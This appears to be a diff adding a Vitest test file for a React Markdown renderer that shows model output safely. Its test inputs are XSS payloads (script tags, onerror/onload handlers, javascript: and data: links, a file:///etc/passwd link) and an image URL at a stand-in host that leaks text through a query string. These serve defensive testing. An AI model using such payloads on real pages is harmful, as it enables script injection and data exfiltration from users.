@@ -1,0 +1,109 @@
+import { renderToStaticMarkup } from "react-dom/server";
+import { expect, test } from "vitest";
+import { Markdown } from "./markdown.tsx";
+import { markdownBlocks } from "./markdown-blocks.ts";
+
+const html = (text: string, streaming = false) =>
+  renderToStaticMarkup(<Markdown text={text} streaming={streaming} />);
+
+/** The text that a browser would show, with the few entities that React writes undone. */
+function textOf(markup: string): string {
+  const plain = markup.replace(/<[^>]*>/g, "");
+  const entities: Record<string, string> = {
+    "&lt;": "<",
+    "&gt;": ">",
+    "&quot;": '"',
+    "&#x27;": "'",
+    "&amp;": "&",
+  };
+  return plain.replace(/&(lt|gt|quot|#x27|amp);/g, (entity) => entities[entity] ?? entity);
+}
+
+test.each([
+  "<script>alert(1)</script>",
+  '<img src="https://trap.example/x.png" onerror="alert(1)">',
+  "text <iframe src='https://trap.example'></iframe> text",
+  '<a href="javascript:alert(1)">x</a>',
+  "<svg/onload=alert(1)>",
+  "<style>body{display:none}</style>",
+])("HTML of a model is text and no element: %s", (text) => {
+  expect(html(text)).not.toMatch(/<(script|img|iframe|svg|style|a)\b/i);
+  expect(textOf(html(text))).toContain("<");
+});
+
+test("HTML that is split between two deltas never becomes an element", () => {
+  const text = 'So: <img src="https://trap.example/x.png"> and <script>alert(1)</script> end.';
+  for (let length = 1; length <= text.length; length++) {
+    expect(html(text.slice(0, length), true)).not.toMatch(/<(img|script)/i);
+  }
+});
+
+test.each([
+  "[x](javascript:alert(1))",
+  "[x](JaVaScRiPt:alert(1))",
+  "[x](data:text/html,<script>alert(1)</script>)",
+  "[x](vbscript:x)",
+  "[x](file:///etc/passwd)",
+  "[x](/logout)",
+  "[x](&#106;avascript:alert(1))",
+])("a link of an unsafe scheme is plain text: %s", (text) => {
+  expect(html(text)).not.toContain("<a");
+  expect(textOf(html(text))).toBe("x");
+});
+
+test("a safe link opens elsewhere, without an opener or a referrer", () => {
+  expect(html("[site](https://example.org/a?b=c)")).toBe(
+    '<p><a href="https://example.org/a?b=c" target="_blank" rel="noopener noreferrer nofollow">site</a></p>',
+  );
+});
+
+test("an image is a link to it and loads nothing by itself", () => {
+  const markup = html("![a chart](https://trap.example/leak?text=secret)");
+  expect(markup).not.toContain("<img");
+  expect(markup).toContain('<a href="https://trap.example/leak?text=secret"');
+  expect(textOf(markup)).toBe("a chart");
+  expect(html("![x][ref]\n\n[ref]: https://trap.example/y")).not.toContain("<img");
+});
+
+test("a half-written image or link loads nothing while it streams", () => {
+  const text = "see ![a chart](https://trap.example/leak?text=secret) there";
+  for (let length = 1; length <= text.length; length++) {
+    expect(html(text.slice(0, length), true)).not.toContain("<img");
+  }
+});
+
+test("text without syntax is shown as it is", () => {
+  const text = "Word001 word002, and so on: äöü 漢字 “quotes” – 2 > 1 & 3 < 4 👩‍🚀.\nA second line.";
+  expect(textOf(html(text))).toBe(text);
+});
+
+test("code is highlighted in the server's HTML too, and its button and language add no text", () => {
+  const markup = html("```ts\nconst a = 1;\n```");
+  expect(markup).toContain("hljs-keyword");
+  expect(markup).toContain('data-language="ts"');
+  expect(textOf(markup)).toBe("const a = 1;\n");
+});
+
+test("a table keeps its alignment without a style attribute", () => {
+  const markup = html("| a | b |\n| --- | --: |\n| 1 | 2 |");
+  expect(markup).toContain('class="align-right"');
+  expect(markup).not.toContain("style=");
+});
+
+test("while text is added only the last block changes", () => {
+  const start = markdownBlocks("# One\n\nTwo **three", true);
+  const later = markdownBlocks("# One\n\nTwo **three** four\n\n```ts\nlet", true);
+  expect(start).toEqual(["# One", "Two **three**"]);
+  expect(later.slice(0, 2)).toEqual(["# One", "Two **three** four"]);
+});
+
+test("a definition at the end reaches the link at the beginning", () => {
+  const markup = html("See [the site][s].\n\nMore text.\n\n[s]: https://example.org/");
+  expect(markup).toContain('<a href="https://example.org/"');
+});
+
+test("20,000 brackets, stars and backticks is rendered in reasonable time", { timeout: 10_000 }, () => {
+  const started = performance.now();
+  html("*_`[".repeat(5_000));
+  expect(performance.now() - started).toBeLessThan(8_000);
+});
